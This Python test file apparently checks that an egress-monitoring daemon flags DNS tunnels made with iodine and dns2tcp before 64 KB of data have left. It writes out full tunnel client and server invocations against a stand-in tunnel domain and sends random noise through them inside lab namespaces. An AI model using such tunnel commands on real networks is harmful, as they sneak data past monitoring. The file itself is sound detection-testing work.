"""Real tunnels through DNS, iodine and dns2tcp, are flagged before 64 KB of what they carry have left."""

import os
import shutil
import signal
import subprocess
import time

import pytest
from conftest import PREFIX, REPOSITORY, at, wait_until

SERVER = "93.184.217.53"
DOMAIN = "t.tunnel-host.com"
REGISTRABLE = "tunnel-host.com"
LIMIT = 65_536
SINK = 9_099


def tool(name):
    """A program of the packages iodine and dns2tcp: installed, or unpacked by scripts/test.sh."""
    unpacked = REPOSITORY / ".build/unpacked/tunnels/usr"
    found = shutil.which(name, path=f"/usr/sbin:/usr/bin:/sbin:/bin:{unpacked}/sbin:{unpacked}/bin")
    if found is None:
        pytest.skip(f"{name} is not here (iodine and dns2tcp could not be fetched?)")
    return found


@pytest.fixture
def started():
    """Starts programs in a namespace of the lab; ends them, and nothing else, when the test is over."""
    processes = []

    def start(namespace, log, *words):
        with open(log, "ab") as out:
            process = subprocess.Popen(
                ["ip", "netns", "exec", f"{PREFIX}-{namespace}", *words],
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=out,
            )
        processes.append(process)
        return process

    yield start
    for process in processes:
        if process.poll() is None:
            process.send_signal(signal.SIGTERM)
    for process in processes:
        try:
            process.wait(5)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(5)


def carried(events):
    """Characters that the questions in these events carried below the registrable domain: more than their payload."""
    total = 0
    for event in events:
        if event["event_type"] != "dns" or event["dns"].get("type") != "request":
            continue
        for query in event["dns"]["queries"]:
            name = query["rrname"]
            if not name.endswith(REGISTRABLE):
                continue
            for label in name[: -len(REGISTRABLE)].split("."):
                parts = label.split("~")
                total += int(parts[1]) if len(parts) == 3 and parts[1].isdigit() else len(label)
    return total


def flagged(running, kinds=("encoded-host", "label-burst")):
    """The first flag of a tunnel, with what had left before it."""
    events = running.events()
    for place, event in enumerate(events):
        if event["event_type"] == "alert" and at(event, "egress__flag__kind") in kinds:
            return event, carried(events[:place]), sum(
                1 for other in events[:place] if other["event_type"] == "dns" and other["dns"].get("type") == "request"
            )
    return None


def judge(running, what):
    """The flag came, in time, and names the tunnel's domain in figures."""
    event, characters, questions = wait_until(lambda: flagged(running), 30, f"the flag of {what}")
    evidence = event["egress"]["flag"]["evidence"]
    print(f"{what}: {event['egress']['flag']['kind']} after {questions} questions, {characters} characters; {evidence}")
    assert evidence["domain"] == REGISTRABLE
    assert characters < LIMIT
    return event


def send_through(lab, address, port):
    """Sends datagrams of noise through the tunnel for a while, 90 KB in all."""
    code = (
        "import os, socket, time\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for _ in range(150):\n"
        f"    s.sendto(os.urandom(600), ('{address}', {port})); time.sleep(0.02)\n"
    )
    lab.run("agent", "/usr/bin/python3", "-c", code, timeout=60)


@pytest.mark.parametrize("kind", ["NULL", "TXT", "SRV", "MX", "CNAME", "A", "PRIVATE"])
def test_iodine_is_flagged(lab, daemon, started, tmp_path, kind):
    server, client = tool("iodined"), tool("iodine")
    if not os.path.exists("/dev/net/tun"):
        pytest.skip("no /dev/net/tun")
    running = daemon()
    started("internet", tmp_path / "iodined.out", server, "-f", "-c", "-P", "pw", "-l", SERVER, "10.99.0.1", DOMAIN)
    time.sleep(0.5)
    log = tmp_path / "iodine.out"
    started("agent", log, client, "-f", "-P", "pw", "-r", "-T", kind, SERVER, DOMAIN)
    wait_until(lambda: "transmitting data" in log.read_text(errors="replace"), 40, f"the tunnel: {log}")
    send_through(lab, "10.99.0.1", SINK)
    judge(running, f"iodine {kind}")


@pytest.mark.parametrize("kind", ["TXT", "KEY"])
def test_dns2tcp_is_flagged(lab, daemon, started, tmp_path, kind):
    server, client = tool("dns2tcpd"), tool("dns2tcpc")
    running = daemon()
    (tmp_path / "dns2tcpd.conf").write_text(
        f"listen = {SERVER}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {DOMAIN}\n"
        f"resources = sink:127.0.0.1:{SINK}\n"
    )
    sink = (
        "import socket\n"
        f"s = socket.create_server(('127.0.0.1', {SINK}))\n"
        "while True:\n"
        "    c, _ = s.accept()\n"
        "    while c.recv(65536): pass\n"
    )
    started("internet", tmp_path / "sink.out", "/usr/bin/python3", "-c", sink)
    started("internet", tmp_path / "dns2tcpd.out", server, "-F", "-d", "1", "-f", str(tmp_path / "dns2tcpd.conf"))
    time.sleep(0.5)
    arguments = ["-T", kind, "-z", DOMAIN, "-r", "sink", "-l", "9098", SERVER]
    started("agent", tmp_path / "dns2tcpc.out", client, *arguments)
    time.sleep(1)
    code = (
        "import os, socket, time\n"
        "s = socket.create_connection(('127.0.0.1', 9098), 5)\n"
        "s.settimeout(10)\n"
        "end = time.monotonic() + 15\n"
        "left = 90_000\n"
        "try:\n"
        "    while left > 0 and time.monotonic() < end: left -= s.send(os.urandom(500)); time.sleep(0.02)\n"
        "except OSError: pass\n"
    )
    lab.run("agent", "/usr/bin/python3", "-c", code, timeout=60, check=False)
    judge(running, f"dns2tcp {kind}")
